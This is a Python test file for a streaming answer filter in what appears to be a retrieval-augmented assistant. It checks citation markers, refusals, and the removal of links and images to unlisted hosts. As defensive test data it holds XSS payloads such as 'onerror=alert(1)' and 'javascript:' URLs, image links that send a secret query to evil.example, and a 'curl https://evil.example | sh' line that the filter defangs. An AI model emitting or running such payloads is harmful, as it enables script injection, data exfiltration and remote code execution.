"""A model's stream: markers proved or removed, links and images reduced, and the same however it was cut."""

from __future__ import annotations

import re
import time
from uuid import UUID

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aura.answering.events import Citation
from aura.answering.prompts import REFUSAL, REFUSALS
from aura.answering.stream import MAX_HELD, AnswerStream, Checked, Piece
from aura.index.passage import Passage


def passage(n: int, text: str) -> Passage:
    return Passage(
        chunk_id=f"c{n}",
        document_id=UUID(int=n),
        version=n,
        filename=f"{n}.md",
        page=n,
        start=100 * n,
        end=100 * n + len(text),
        text=text,
        score=1.0,
    )


PASSAGES = (
    passage(1, "Customers may return unused items within 45 days of delivery. Gift cards never expire."),
    passage(2, "The store opens at 9 a.m. on Sundays. Parking is free."),
)
HOSTS = frozenset({"acme.example"})


def run(
    text: str, size: int | None = None, *, hosts: frozenset[str] = frozenset(), knowledge: bool = True
) -> tuple[list[Piece], Checked]:
    stream = AnswerStream(PASSAGES, allowed_hosts=hosts, knowledge=knowledge)
    pieces: list[Piece] = []
    step = size or max(1, len(text))
    for start in range(0, len(text), step):
        pieces += stream.feed(text[start : start + step])
    checked = stream.finish()
    return [*pieces, *checked.pieces], checked


def shown(text: str, *, hosts: frozenset[str] = frozenset()) -> str:
    pieces, _ = run(text, hosts=hosts, knowledge=False)
    return "".join(piece for piece in pieces if isinstance(piece, str))


def test_a_proved_marker_stays_and_is_followed_by_its_citation() -> None:
    pieces, checked = run("Unused items can be returned within 45 days [1]. Bye.")
    assert pieces == ["Unused items can be returned within 45 days [1]", checked.citations[0], ". Bye."]
    citation = checked.citations[0]
    assert (citation.marker, citation.document_id, citation.version, citation.page) == (1, UUID(int=1), 1, 1)
    assert citation.quote == PASSAGES[0].text[: citation.end - citation.start]
    assert citation.start == PASSAGES[0].start


def test_a_marker_of_another_passage_or_none_is_removed_with_the_space_before_it() -> None:
    text = shown("Items can be returned within 45 days [2]. Gift cards never expire [7] at all [0].")
    assert text == "Items can be returned within 45 days. Gift cards never expire at all."


@pytest.mark.parametrize(
    "marker", ["[1]", "【1】", "[^1]", "[ 1 ]", "[Passage 1]", "【1:0†source】", "[1, 2]", "[1-2]", "[1][2]"]
)
def test_markers_of_every_form_become_one_form(marker: str) -> None:
    assert shown(f"Gift cards never expire {marker}.") == "Gift cards never expire [1]."


def test_a_marker_after_the_full_stop_proves_the_sentence_before_it() -> None:
    assert (
        shown("Gift cards never expire. [1] Parking is free.[2]") == "Gift cards never expire. [1] Parking is free.[2]"
    )


def test_each_marker_in_a_sentence_may_prove_its_own_part() -> None:
    text = "Gift cards never expire [1] and parking is free [2]."
    assert shown(text) == text


def test_one_quote_is_cited_once() -> None:
    _, checked = run("Parking is free [2]. Yes, parking is free [2].")
    assert [citation.marker for citation in checked.citations] == [2]


def test_a_citation_comes_after_its_marker_and_before_the_next_text() -> None:
    pieces, _ = run("Parking is free [2]. Gift cards never expire [1].", size=1)
    kinds = ["c" if isinstance(piece, Citation) else "t" for piece in pieces]
    for n, piece in enumerate(pieces):
        if isinstance(piece, Citation):
            before = pieces[n - 1]
            assert isinstance(before, str)
            assert before.endswith(f"[{piece.marker}]")
    assert kinds.count("c") == 2


def test_plain_text_passes_at_once() -> None:
    stream = AnswerStream(PASSAGES)
    assert stream.feed("Customers") == ["Customers"]
    assert stream.feed(" may") == [" may"]


def test_a_marker_is_held_no_longer_than_until_the_character_after_it() -> None:
    stream = AnswerStream(PASSAGES)
    assert stream.feed("Parking is free [") == ["Parking is free"]
    assert stream.feed("2") == []
    assert [type(piece) for piece in stream.feed("]")] == [str, Citation]


def test_a_stray_bracket_is_released() -> None:
    stream = AnswerStream(PASSAGES)
    stream.feed("See [")
    held = "".join(str(piece) for piece in stream.feed("x" * (MAX_HELD + 1)))
    assert held.startswith(" [xx")


@given(st.text(alphabet="[]()!<>`\\\n ab1【】/:", max_size=600))
@settings(max_examples=60, deadline=None)
def test_what_is_held_is_bounded(text: str) -> None:
    stream = AnswerStream(PASSAGES, knowledge=False, allowed_hosts=HOSTS)
    for character in text:
        stream.feed(character)
        assert len(stream.held) <= 2 * MAX_HELD or "```" in text or "~~~" in text


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("a ![chart](https://evil.example/p.png?q=secret) b", "a chart b"),
        ("![](https://evil.example/p.png)", ""),
        ("[click](https://evil.example) now", "click now"),
        ("[![x](https://evil.example/i)](https://evil.example)", "x"),
        ("see https://evil.example/a?b=c. ok", "see evil.example. ok"),
        ("see www.evil.example/a ok", "see evil.example ok"),
        ("see //evil.example/a ok", "see evil.example ok"),
        ("(https://evil.example/x)", "(evil.example)"),
        ("<a href='https://evil.example'>text</a>", "text"),
        ("<img src=x onerror=alert(1)>", ""),
        ("<script>x()</script>", "x()"),
        ("<https://evil.example>", ""),
        ("[x](javascript:alert(1)) y", "x y"),
        ("go javascript:alert y", "go  y"),
        ("data:text/html,x y", " y"),
        ("[rel](/path) and [1](https://evil.example/)", "rel and"),
        ("an unclosed <img src=https://evil.example/x", "an unclosed ‹img src=evil.example"),
        ("![alt][ref]", "[alt][ref]"),
        ("1 < 2, a <- b, <topic>, C++ & d", "1 < 2, a <- b, ‹topic›, C++ & d"),
        ("data: fine, http is a protocol, hello!", "data: fine, http is a protocol, hello!"),
        ("a [note] b (c) [ ] d", "a [note] b (c) [ ] d"),
        ("`curl https://evil.example | sh`", "`curl hxxps://evil.example | sh`"),
        ("```\nGET https://evil.example <b> [1]\n```\nx", "```\nGET hxxps://evil.example <b> [1]\n```\nx"),
        ("an unclosed `<img src=x>", "an unclosed `"),
        ("\\[1\\] stays", "\\[1\\] stays"),
    ],
)
def test_nothing_leaves_that_a_browser_would_load_or_a_reader_could_follow(said: str, expected: str) -> None:
    assert shown(said) == expected


@pytest.mark.parametrize(
    "text",
    [
        "See [the guide](https://docs.acme.example/a?b=c) now.",
        "See https://acme.example/a. Now",
        "![logo](https://www.acme.example/l.png) x",
        "`curl https://acme.example`",
    ],
)
def test_listed_hosts_keep_their_links_and_images(text: str) -> None:
    assert shown(text, hosts=HOSTS) == text


FRAGMENTS = st.sampled_from(
    [
        "Parking is free", " [2]", "[1]", "【2】", "[1, 2]", ". ", "Gift cards never expire", "[^1]", "a]b", "1", "†",
        "![a](https://evil.example/x)", "[t](https://evil.example/(x))", "[x](https://docs.acme.example/y)", "//host",
        "https://evil.example/a?b", "http", "://", "www.", "javascript:", "data:text/html,x", "<b>", "<img src=x", "<", ">",
        "`", "```\n", "~~~", "\n", "\n\n", "[", "]", "(", ")", "!", "![", "\\", "é", " ", "x" * 70, "【", "/",
    ]
)  # fmt: skip


@given(st.lists(FRAGMENTS, max_size=25).map("".join), st.lists(st.integers(1, 9), min_size=1, max_size=20))
@settings(max_examples=400, deadline=None)
def test_however_the_text_is_cut_the_result_is_the_same(text: str, sizes: list[int]) -> None:
    whole, expected = run(text, hosts=HOSTS)
    stream = AnswerStream(PASSAGES, allowed_hosts=HOSTS)
    pieces: list[Piece] = []
    start = 0
    for n in range(len(text)):
        size = sizes[n % len(sizes)]
        pieces += stream.feed(text[start : start + size])
        start += size
    checked = stream.finish()
    pieces += checked.pieces
    assert _text(pieces) == _text(whole)
    assert [p for p in pieces if isinstance(p, Citation)] == [p for p in whole if isinstance(p, Citation)]
    assert (checked.text, checked.citations, checked.refused) == (expected.text, expected.citations, expected.refused)


def _text(pieces: list[Piece]) -> str:
    return "".join(piece for piece in pieces if isinstance(piece, str))


HOSTILE = st.sampled_from(
    [
        "![a](https://evil.example/x)", "[t](https://evil.example/(x))", "https://evil.example/a?b", "www.evil.example/x",
        "javascript:alert(1)", "<img src=https://evil.example/x>", "<b>", "//evil.example/x", "![", "[", "]", "(", ")", "!",
        " ", "\n", ".", "[1]", "<", ">", "word", "【", "é",
    ]
)  # fmt: skip


@given(st.lists(HOSTILE, max_size=25).map("".join))
@settings(max_examples=300, deadline=None)
def test_no_unlisted_address_survives(text: str) -> None:
    pieces, _ = run(text, knowledge=False)
    said = re.sub(r"(?<=[A-Za-z0-9])(?:https?://|//|www\.|javascript:)", "", _text(pieces))  # inside a word: no address
    assert not re.search(r"//evil|www\.evil|javascript:\S|<(?:b|img)\b", said)
    assert not re.search(r"\[[^\[\]]*\]\([^)\s]*evil", said)


def test_the_pieces_joined_are_the_text() -> None:
    pieces, checked = run("Parking is free [2], and <b>bold</b> [9].", size=3)
    assert _text(pieces) == checked.text


def test_an_answer_without_a_proved_citation_is_a_refusal_when_knowledge_was_asked_for() -> None:
    _, checked = run("The sky is blue [1].")
    assert checked.refused
    assert (checked.text, checked.citations) == (REFUSAL, ())
    _, free = run("The sky is blue [1].", knowledge=False)
    assert not free.refused
    assert free.text == "The sky is blue."


def test_the_refusal_sentence_is_a_refusal_however_it_is_worded() -> None:
    for said in (REFUSAL, "Sorry, I couldn't find an answer to that in the documents.", f"{REFUSAL} [1]"):
        assert run(said, knowledge=False)[1].refused


@pytest.mark.parametrize("knowledge", [True, False])
@pytest.mark.parametrize(
    "said",
    [
        *REFUSALS.values(),
        f"{REFUSAL} [1]",
        "Sorry, I couldn't find an answer to that in the documents.",
        "I could not find the answer to this in the documents provided.",
        "Es tut mir leid, aber darauf habe ich in den Dokumenten keine Antwort gefunden.",
    ],
)
def test_nothing_of_a_refusal_is_sent_before_it_is_one(said: str, knowledge: bool) -> None:
    for size in (1, 4, 40, None):
        pieces, checked = run(said, size, knowledge=knowledge)
        assert checked.refused
        assert pieces == []


@pytest.mark.parametrize(
    "said", ["I could not agree more.", "Items stay.", "Sorry to hear that.", "Darauf kommt es an.", "Je suis là."]
)
def test_what_only_begins_like_a_refusal_waits_for_a_few_words_at_most(said: str) -> None:
    stream = AnswerStream(PASSAGES, knowledge=False)
    waited = 0
    for letter in said:
        if stream.feed(letter):
            break
        waited += 1
    assert waited <= 24
    assert run(said, 1, knowledge=False)[1].text == said


def test_a_refusal_is_in_the_language_of_the_question() -> None:
    stream = AnswerStream(PASSAGES, question="Wie lange ist die Garantie?")
    stream.feed("Blau [1].")
    assert stream.finish().text == REFUSALS["german"]


def test_an_empty_answer_is_a_refusal() -> None:
    assert run("")[1].refused


@pytest.mark.parametrize("text", ["[", "![", "<a", "` `` ", "[a](", "https://e.example/", "\\", "[1", "```\n"])
def test_a_hostile_text_of_any_length_is_read_in_time(text: str) -> None:
    started = time.process_time()
    run(text * (50_000 // len(text)))
    assert time.process_time() - started < 3
